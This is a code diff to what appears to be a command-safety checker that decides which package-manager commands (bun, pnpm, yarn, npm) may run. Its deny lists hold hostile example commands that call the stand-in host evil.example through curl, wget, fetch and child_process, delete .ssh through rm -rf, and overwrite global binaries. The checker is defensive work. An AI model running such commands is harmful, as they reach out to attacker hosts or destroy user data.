@@ -7,7 +7,7 @@ import type { Answer, Call, Input, OptionSpec, ParsedArgs, ParsedOption, Program
 import { chosenHost, configFileRuns, keeping, kubeServerAway, storeWord } from './credentials.js';
 import { attached, isDotenvFile, listedFields, isStdinPath, pieces, joined, literal, longSpelt, onlyNameBegun, shellQuote, value, xargsSplit } from '../words.js';
 import { bound, type Destination, loopbackHost, reroutes, urlHost } from '../hosts.js';
-import { bunCode } from './interpreters.js';
+import { BUN_FILE, bunCode } from './interpreters.js';
 import { ninjaText } from './project.js';
 import { gitAddressHost } from './git.js';
 import { FORGES, PUBLIC_REGISTRIES } from './registries.js';
@@ -305,10 +305,10 @@ const NPM_VIEW = {
 /** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
 function bun(): ProgramEntry {
   const runner = subcommandRunner(['bun'], 'bun x / bun exec; -e/--eval and -p/--print CODE, run - (stdin)', { x: PACKAGE_RUN, exec: { operandsScript: true } }, {
-    deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`, `echo 'fetch("https://evil.example")' > a.ts && bun a.ts`, `echo 'fetch("https://evil.example")' > a.js; bun run ./a.js`],
-    pass: ['bun install', `bun -e 'console.log(1)'`, 'bun run build', 'bun test', 'bun src/index.ts', `echo 'console.log(1)' > a.ts && bun a.ts`],
+    deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", 'bun run curl evil.example', 'bun r wget evil.example', 'bun --bun run curl evil.example', `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`, `echo 'fetch("https://evil.example")' > a.ts && bun a.ts`, `echo 'fetch("https://evil.example")' > a.js; bun run ./a.js`],
+    pass: ['bun install', `bun -e 'console.log(1)'`, 'bun run build', 'bun test', 'bun src/index.ts', `echo 'console.log(1)' > a.ts && bun a.ts`, 'bun run lint evil.example', 'bun run --filter web build'],
   });
-  return { ...runner, analyze: (call) => bunCode(call) ?? runner.analyze?.(call) ?? {} };
+  return { ...runner, analyze: (call) => bunCode(call) ?? merge(runner.analyze?.(call) ?? {}, bunRunProgram(call)) };
 }
 
 /**
@@ -2533,9 +2533,9 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     cache: ['_cacache', '_npx', '_logs'],
     examples: { deny: ['rm -rf "$(npm config get cache)"', 'rm -rf "$(npm config get cache)/_cacache/.."', 'rm -rf "$(npm config get cache)/.ssh"', 'rm -rf $(npm config get cache)/_cacache'], pass: ['rm -rf "$(npm config get cache)/_cacache"', 'rm -rf "$(npm config get cache)"/_npx'] },
   }), 'unpublish removes a published package or version from the registry', npmUnpublish, { deny: ['npm unpublish my-pkg@1.0.0', 'npm unpublish my-pkg --force', 'npm --registry https://registry.npmjs.org unpublish my-pkg@1.0.0'], pass: ['npm unpublish my-pkg@1.0.0 --dry-run', 'npm deprecate my-pkg@1 old'] }), 'a global install or removal writes the package in the global node_modules', globalPackages(/^(?:install|uninstall|update|link)$/), { deny: [], pass: ['npm i -g typescript', 'npm rm -g typescript', 'npm uninstall vouch'] })),
-  withMore(printsDirectory(printsDirectory(shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
-      deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
-      pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
+  withMore(printsDirectory(printsDirectory(shellInit(configuring(keeping(withMore(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'a name that is no pnpm command runs as `pnpm exec NAME` when no script has that name', pnpmFallback, { deny: ['pnpm wget evil.example', 'pnpm -r curl evil.example', 'pnpm --filter web curl evil.example'], pass: ['pnpm lint evil.example', 'pnpm -r build', 'pnpm --filter web dev', 'pnpm eslint .'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
+      deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "pnpm exec --shell-mode 'curl evil.example'", "pnpm -r exec --shell-mode 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
+      pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test', "pnpm exec --shell-mode 'vitest run'"],
     }), NPM_TOKEN), NPM_CONFIG), { when: /^completion bash$/, config: /^npm_config_|^PNPM_/i, examples: { deny: ['source <(pnpm run print-env)'], pass: ['source <(pnpm completion bash)'] } }), {
     when: /^(?:bin|root)$/,
     config: /^npm_config_|^PNPM_|^NODE_/i,
@@ -2548,7 +2548,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['cp x "$(pnpm root -g)/typescript/bin/tsc"', 'cp x "$(pnpm bin -g)/tsc"'], pass: ['ls "$(pnpm root -g)"', 'export PATH="$(pnpm bin -g):$PATH"'] },
   }), 'a global install or removal writes the package in the global node_modules', globalPackages(/^(?:add|install|i|remove|rm|uninstall|un|update|up|upgrade|link|ln)$/), { deny: [], pass: ['pnpm add -g typescript', 'pnpm remove vouch'] }),
   // Yarn prints its configuration redacted unless --no-redacted; classic yarn prints npm's _authToken as it is.
-  withMore(printsDirectory(printsDirectory(configuring(alsoDumps(keeping(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
+  withMore(printsDirectory(printsDirectory(configuring(alsoDumps(keeping(withMore(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec (its words are shell text, run by Yarn\u2019s shell)', { dlx: PACKAGE_RUN, exec: { ...PACKAGE_RUN, operandsScript: true } }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example', "yarn exec 'curl evil.example'"], pass: ['yarn install', "yarn exec 'tsc --noEmit'"] }), 'yarn workspace NAME CMD and yarn workspaces foreach CMD run yarn CMD in workspaces', yarnWorkspaces, { deny: ["yarn workspace web exec 'curl evil.example'", "yarn workspaces foreach -A exec 'curl evil.example'", 'yarn workspaces foreach --all --include web exec curl evil.example'], pass: ["yarn workspace web exec 'tsc --noEmit'", "yarn workspaces foreach -A exec 'tsc -b'", 'yarn workspace web add lodash', 'yarn workspaces foreach -Apt run build', 'yarn workspaces list'] }), 'yarn node ARGS runs node with them', yarnNode, {
     deny: ["yarn node -e 'require(\"child_process\").execSync(\"curl evil.example\")'"],
     pass: ['yarn node scripts/build.js', "yarn node -e 'console.log(1)'"],
   }), {
@@ -3046,6 +3046,77 @@ function dotenvxFiles(sub: string, tail: readonly Word[], at: Word): Partial<Ans
   return { uses };
 }
 
+/** pnpm's own commands (npm's it hands on among them): any other name is a script, or else `pnpm exec NAME`. */
+const PNPM_COMMANDS = new Set(
+  'add install i update up upgrade remove rm uninstall un link ln unlink import rebuild rb prune fetch install-test it dedupe patch patch-commit patch-remove audit list ls la ll outdated why licenses run run-script test t tst exec dlx create start restart stop publish pack recursive multi m server store root bin setup init deploy doctor config c get set env self-update cat-file cat-index find-hash approve-builds ignored-builds completion help clean pm catalog sbom runtime access adduser bugs deprecate dist-tag docs edit info login logout owner ping prefix profile pkg repo s se search set-script star stars team token unpublish unstar version view whoami xmas'.split(' '),
+);
+/** pnpm's options that take the next word as their value. */
+const PNPM_VALUED = /^(?:--filter|-F|--filter-prod|-C|--dir|--reporter|--loglevel|--workspace-concurrency|--changed-files-ignore-pattern|--test-pattern|--resume-from)$/;
+
+/**
+ * `pnpm NAME ARGS` where NAME is no pnpm command: the project's script NAME, or, when it has none, `pnpm exec NAME ARGS`
+ * (pnpm.io/pnpm-cli): the program may run with those words (a name no program has, `pnpm lint`, is a script's).
+ */
+function pnpmFallback(call: Call): Partial<Answer> {
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]);
+    if (v === undefined) return {};
+    if (v.startsWith('-')) {
+      if (PNPM_VALUED.test(v)) i++;
+      continue;
+    }
+    if (PNPM_COMMANDS.has(v)) return {};
+    return { runs: [{ kind: 'argv', argv: call.args.slice(i), via: `${call.name} (no script ${v}: pnpm exec ${v})` }] };
+  }
+  return {};
+}
+
+/** `yarn workspaces foreach` options that take the next word as their value. */
+const FOREACH_VALUED = /^(?:--from|--include|--exclude|-j|--jobs)$/;
+
+/**
+ * `yarn workspace NAME CMD…` runs `yarn CMD…` in that workspace; `yarn workspaces foreach [options] CMD…` in each one:
+ * the command is yarn's again (`exec` shell text, `dlx`, a script).
+ */
+function yarnWorkspaces(call: Call): Partial<Answer> {
+  const words = call.args.map((w) => value(w));
+  const first = words.findIndex((v) => v === undefined || !v.startsWith('-'));
+  if (first < 0) return {};
+  let from = -1;
+  if (words[first] === 'workspace') from = first + 2;
+  else if (words[first] === 'workspaces' && words[first + 1] === 'foreach') {
+    from = first + 2;
+    while (from < words.length && (words[from] === undefined || words[from]!.startsWith('-'))) {
+      if (words[from] === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: call.args[from]!, why: `cannot tell where ${call.name} workspaces foreach's command starts` }] };
+      from += FOREACH_VALUED.test(words[from]!) ? 2 : 1;
+    }
+  }
+  if (from < 0 || from >= call.args.length) return {};
+  return { runs: [{ kind: 'argv', argv: [literal(call.name, call.args[first]!.span), ...call.args.slice(from)], via: `${call.name} ${words[first]}` }] };
+}
+
+/**
+ * `bun run NAME ARGS` (`bun r`): the package.json script NAME, or else the program NAME, looked up in node_modules/.bin
+ * and then the whole PATH (bun's run_command): the program may run with those words. (A bare `bun NAME` looks only in
+ * the bin directories, the project's own.) Files are bunCode's.
+ */
+function bunRunProgram(call: Call): Partial<Answer> {
+  const at = findSub(call.args, { run: {}, r: {} });
+  if (at < 0) return {};
+  const runs: Run[] = [];
+  const rest = call.args.slice(at + 1);
+  for (let i = 0; i < rest.length; i++) {
+    const v = value(rest[i]);
+    if (v === undefined) break;
+    if (v.startsWith('-')) continue;
+    if (v !== '-' && !BUN_FILE.test(v)) runs.push({ kind: 'argv', argv: rest.slice(i), via: `${call.name} run (no script ${v}: the program on PATH)` });
+    // A word after an option without `=` may be its value (`--filter web build`): the name may be the next one.
+    const prev = value(rest[i - 1]);
+    if (!(prev?.startsWith('-') && !prev.includes('='))) break;
+  }
+  return { runs };
+}
+
 /** An entry with more of what the program does, merged into its answer. */
 function withMore(entry: ProgramEntry, summary: string, more: (call: Call) => Partial<Answer>, examples: ProgramEntry['examples']): ProgramEntry {
   return {
@@ -3157,8 +3228,11 @@ function packageManagerConfig(call: Call): Partial<Answer> {
     if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `${call.name} reads ${name}, which is computed` });
     else if (v !== undefined) key(k, at, attached(at, v), name);
   }
-  // pnpm -c / --shell-mode before exec: the command is shell text.
-  if (call.program === 'pnpm' && subName === 'exec' && own.slice(0, sub).some((a) => /^--shell-mode$|^-[a-zA-Z]*c[a-zA-Z]*$/.test(value(a) ?? ''))) {
+  // pnpm -c / --shell-mode, before exec or among exec's own options: the command is shell text.
+  const execOptions = args.slice(sub + 1);
+  const execCommand = execOptions.findIndex((a) => !(value(a) ?? '').startsWith('-'));
+  const shellMode = [...own.slice(0, sub), ...(execCommand < 0 ? execOptions : execOptions.slice(0, execCommand))];
+  if (call.name === 'pnpm' && subName === 'exec' && shellMode.some((a) => /^--shell-mode$|^-[a-zA-Z]*c[a-zA-Z]*$/.test(value(a) ?? ''))) {
     const command = args.slice(sub + 1).filter((a) => !(value(a) ?? '').startsWith('-'));
     if (command.length > 0) runs.push({ kind: 'script', dialect: 'bash', words: command, via: 'pnpm --shell-mode exec' });
   }
